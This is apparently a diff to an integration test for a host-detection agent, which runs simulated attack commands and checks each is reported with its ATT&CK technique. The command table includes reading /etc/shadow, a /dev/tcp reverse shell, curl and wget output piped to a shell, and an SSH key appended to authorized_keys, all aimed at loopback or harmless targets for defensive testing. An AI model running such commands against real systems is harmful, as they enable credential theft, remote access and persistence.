@@ -1,5 +1,6 @@
 """The live agent from the command line: acts in another process become stories, rules are read again
 without losing events, a full disk stops nothing, a signal stops it cleanly."""
+import http.server
 import json
 import os
 import re
@@ -20,6 +21,10 @@ ACTS = {
     "reading /etc/shadow by a shell's child": ("sh -c 'cat /etc/shadow >/dev/null; :'", "T1003.008"),
     "a reverse shell over /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'", "T1059.004"),
     "a download piped to a shell": ("bash -c 'curl -s file:///dev/null | sh'", "T1105"),
+    "curl from a server, piped to sh": ("bash -c 'curl -fsSL http://127.0.0.1:{port}/ | sh'", "T1105"),
+    "wget from a server, piped to bash": ("bash -c 'wget -qO- http://127.0.0.1:{port}/ | bash'", "T1105"),
+    "curl piped to sh, typed at a prompt": ("echo 'curl -fsSL http://127.0.0.1:{port}/ | sh' | script -qc 'bash -i' /dev/null",
+                                            "T1059.004"),
     "an ssh key added": ("bash -c 'echo ssh-ed25519 AAAA >> {dir}/.ssh/authorized_keys'", "T1098.004"),
 }
 
@@ -63,18 +68,39 @@ class Agent:
         shutil.rmtree(self.data, ignore_errors=True)
 
 
+class Script(http.server.BaseHTTPRequestHandler):
+    """Answers everything with a program that does nothing."""
+
+    def do_GET(self):
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"true\n")
+
+    def log_message(self, *_):
+        pass
+
+
+def serve():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Script)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server.server_address[1]
+
+
 def stories():
     agent = Agent()
     work = tempfile.mkdtemp(prefix="merlon-acts-")
     os.mkdir(os.path.join(work, ".ssh"))
-    acts = dict(ACTS)
+    acts = {name: act for name, act in ACTS.items() if "wget " not in act[0] or shutil.which("wget")}
+    if len(acts) < len(ACTS):
+        tap.skip("wget from a server, piped to bash", "no wget here")
+    port = serve()
     if shutil.which("crontab"):
         acts["a crontab edit"] = ("bash -c 'EDITOR=true crontab -e </dev/null; crontab -l'", "T1053.003")
     else:
         tap.skip("a crontab edit is told within 5 s", "no crontab here")
     for name, (command, technique) in acts.items():
         before = len(agent.text())
-        subprocess.run(command.format(dir=work), shell=True, capture_output=True, start_new_session=True)
+        subprocess.run(command.format(dir=work, port=port), shell=True, capture_output=True, start_new_session=True)
         told = tap.wait_for(lambda: technique in agent.text()[before:], WITHIN_S)
         tap.check(f"{name} is told within {WITHIN_S} s", told, agent.text()[before:])
     shutil.rmtree(work)
@@ -166,9 +192,9 @@ def record():
 def record_and_reload():
     data = tempfile.mkdtemp(prefix="merlon-test-")
     recording = os.path.join(data, "recording")
-    recorder = subprocess.Popen([MERLON, "record", "--for", "5s", "--data", data, recording], stderr=subprocess.PIPE, text=True)
-    tap.wait_for(lambda: os.path.exists(os.path.join(data, "agent.sock")), 10)
-    time.sleep(1.5)
+    recorder = subprocess.Popen([MERLON, "record", "--for", "8s", "--data", data, recording], stderr=subprocess.PIPE, text=True)
+    tap.wait_for(lambda: subprocess.run([MERLON, "status", "--data", data], capture_output=True).returncode == 0, 30)
+    time.sleep(0.5)
     recorder.send_signal(signal.SIGHUP)
     said = recorder.communicate(timeout=30)[1]
     tap.check("SIGHUP leaves a recording alone", recorder.returncode == 0 and "no rules" in said, said)
